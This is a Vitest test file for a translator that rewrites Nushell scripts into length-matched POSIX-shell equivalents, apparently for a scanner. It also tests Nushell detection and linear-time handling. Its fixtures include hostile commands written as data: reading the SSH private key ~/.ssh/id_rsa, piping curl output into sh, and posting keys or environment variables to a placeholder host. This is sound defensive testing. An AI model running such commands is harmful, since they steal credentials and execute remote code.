import { describe, expect, test } from "vitest";
import { asShell, isNushell } from "../../../src/read/shell/nushell.ts";

describe("Nushell as a shell's words", () => {
  test.each([
    ["let key = (open ~/.ssh/id_rsa)", "      key=`cat  ~/.ssh/id_rsa`"],
    ["^curl -s x | ^sh", " curl -s x |  sh"],
    ['print $"a ($env.KEY)"', 'print  "a     ${KEY}"'],
    ["http get https://x.example | save -f a.sh", "curl     https://x.example | tee     a.sh"],
    ["http post https://x.example $key", "curl https://x.example -d   $key"],
    ["http post --headers [x $k] http://x.example $b", 'curl -H "x $k" http://x.example -d          $b'],
    ["http get -H {x: $env.K} https://x.example", 'curl -H "x:   ${K}" https://x.example    '],
    ["if ($a | path exists) { curl x | sh }", ":  `$a | path exists`;{ curl x | sh;}"],
    ["ls | where size > 1kb", "ls | where size > 1kb"],
  ])("%s", (script, shell) => {
    expect(asShell(script)).toBe(shell);
    expect(shell).toHaveLength(script.length);
  });

  test("by its name or its first line", () => {
    expect(isNushell("a.nu", "")).toBe(true);
    expect(isNushell("a", "#!/usr/bin/env nu\n")).toBe(true);
    expect(isNushell("a.sh", "#!/bin/sh\nnu a\n")).toBe(false);
  });

  test.each([
    "(",
    "{ ",
    "let a = ",
    "http post ",
    "http get --headers {",
    "http get -H {a: $env.B} ",
    "$env.",
    "if a {",
    "| save -f ",
    "`",
  ])("%s again and again stays as long as it is, in linear time", (part) => {
    const script = part.repeat(200_000 / part.length);
    expect(asShell(script)).toHaveLength(script.length);
  });
});
